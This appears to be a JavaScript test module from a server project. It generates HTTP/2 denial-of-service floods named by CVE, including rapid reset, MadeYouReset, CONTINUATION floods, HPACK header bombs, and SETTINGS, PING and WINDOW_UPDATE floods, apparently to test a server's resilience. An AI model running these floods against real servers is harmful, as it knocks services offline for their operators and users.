/** Attacks that HTTP/2 makes possible, by the names under which they became known. */
import { field, frame, opening, request, reset, storm, TYPE, uint32, windowUpdate } from './h2-wire.mjs'
import { pause } from './wire.mjs'

const PIECE = 65_536
const repeated = (bytes, size = PIECE) => Buffer.concat(Array(Math.ceil(size / bytes.length)).fill(bytes))
const PAGE = '/millrace/channels/chat:busy/publications'

/** Streams of one session, which clients number from 1 by 2. */
function streams() {
  let next = -1
  return () => {
    next += 2
    return next
  }
}

/** Pours the same bytes until it is stopped. */
const flood = (bytes) => async (wire, goesOn) => {
  while (goesOn()) await wire.pour(bytes)
}

/** As `flood`, and reads nothing of what it is answered. */
const deafFlood = (bytes) => async (wire, goesOn) => {
  wire.stall()
  while (goesOn() && (await Promise.race([wire.pour(bytes), pause(200)])));
}

/** Requests that are taken back at once. CVE-2023-44487. */
export const rapidResets = (port, { count, ...options }) =>
  storm(port, options, async (wire, goesOn) => {
    const [next, block] = [streams(), request(PAGE)]
    for (let n = 0; n < count && goesOn(); n += 100) {
      const pairs = Array.from({ length: 100 }, () => {
        const stream = next()
        return Buffer.concat([opening(stream, block), reset(stream)])
      })
      await wire.pour(Buffer.concat(pairs))
    }
  })

/** Requests that the server has to take back, for something was wrong after their heads. CVE-2025-8671. */
export const madeResets = (port, { count, ...options }) =>
  storm(port, options, async (wire, goesOn) => {
    const [next, block] = [streams(), request(PAGE)]
    for (let n = 0; n < count && goesOn(); n += 100) {
      const pairs = Array.from({ length: 100 }, () => {
        const stream = next()
        // RFC 9113 §6.9: an increment of 0 is an error of the stream.
        return Buffer.concat([opening(stream, block, false), windowUpdate(stream, 0)])
      })
      await wire.pour(Buffer.concat(pairs))
    }
  })

/** More streams at once than are allowed, all of which wait for a body. */
export const manyStreams = (port, { count, ...options }) =>
  storm(port, options, async (wire, goesOn) => {
    const [next, block] = [streams(), request('/millrace/poll', 'POST')]
    for (let n = 0; n < count && goesOn(); n++) await wire.pour(opening(next(), block, false))
  })

/** A head that never ends. CVE-2024-27316. */
export const continuations = (port, options) =>
  storm(port, options, async (wire, goesOn) => {
    await wire.pour(frame(TYPE.headers, { stream: 1, payload: request('/') }))
    const payload = repeated(field('x', 'y'.repeat(100)), 1000)
    const bytes = repeated(frame(TYPE.continuation, { stream: 1, payload }))
    while (goesOn()) await wire.pour(bytes)
  })

export const emptyContinuations = (port, options) =>
  storm(port, options, async (wire, goesOn) => {
    await wire.pour(frame(TYPE.headers, { stream: 1, payload: request('/') }))
    const bytes = repeated(frame(TYPE.continuation, { stream: 1 }))
    while (goesOn()) await wire.pour(bytes)
  })

/** A field of 4,000 bytes that the table keeps, and thousands of times a byte that stands for it. */
export const headerBombs = (port, options) =>
  storm(port, options, async (wire, goesOn) => {
    const next = streams()
    await wire.pour(opening(next(), Buffer.concat([request('/'), field('x', 'y'.repeat(3900), true)])))
    const bomb = Buffer.concat([request('/'), Buffer.alloc(16_000, 0xbe)])
    while (goesOn() && (await wire.pour(opening(next(), bomb))));
  })

/** Fields, as many as go into what a head may have. */
export const manyFields = (port, options) =>
  storm(port, options, async (wire, goesOn) => {
    const next = streams()
    const many = Buffer.concat([request('/'), repeated(field('x', ''), 16_000)])
    while (goesOn() && (await wire.pour(opening(next(), many))));
  })

const SETTINGS = repeated(frame(TYPE.settings))
/** The largest that a frame may have: RFC 9113 §4.2. */
const LONG_SETTINGS = frame(TYPE.settings, {
  payload: repeated(Buffer.concat([Buffer.of(0, 3), uint32(100)]), 16_380),
})
const PINGS = repeated(frame(TYPE.ping, { payload: '12345678' }))
/** CVE-2019-9515, CVE-2019-9512. */
export const settings = (port, options) => storm(port, options, flood(SETTINGS))
export const longSettings = (port, options) => storm(port, options, flood(repeated(LONG_SETTINGS)))
export const pings = (port, options) => storm(port, options, flood(PINGS))
export const deafSettings = (port, options) => storm(port, options, deafFlood(SETTINGS))
export const deafPings = (port, options) => storm(port, options, deafFlood(PINGS))

/** Of a body, frames without a byte of it. CVE-2019-9518. */
export const emptyData = (port, options) =>
  storm(port, options, async (wire, goesOn) => {
    await wire.pour(opening(1, request('/millrace/poll', 'POST'), false))
    const bytes = repeated(frame(TYPE.data, { stream: 1 }))
    while (goesOn()) await wire.pour(bytes)
  })

/** Frames that say how much is to be read, and in which order. CVE-2019-9513. */
export const priorities = (port, options) =>
  storm(port, options, flood(repeated(frame(TYPE.priority, { stream: 1, payload: Buffer.alloc(5, 1) }))))
export const windows = (port, options) =>
  storm(port, options, async (wire, goesOn) => {
    // It opens and fills again: the window may not go beyond 2^31-1.
    await wire.pour(opening(1, request('/millrace/poll', 'POST'), false))
    const bytes = repeated(windowUpdate(1, 1))
    while (goesOn()) await wire.pour(bytes)
  })
/** Of kinds that nobody knows: RFC 9113 §4.1 has them ignored. */
export const unknown = (port, options) => storm(port, options, flood(repeated(frame(0xf0))))
/** Frames that are wrong one by one. */
export const resetsOfNothing = (port, options) =>
  storm(port, options, async (wire, goesOn) => {
    await wire.pour(opening(1, request('/')))
    const bytes = repeated(reset(1))
    while (goesOn()) await wire.pour(bytes)
  })
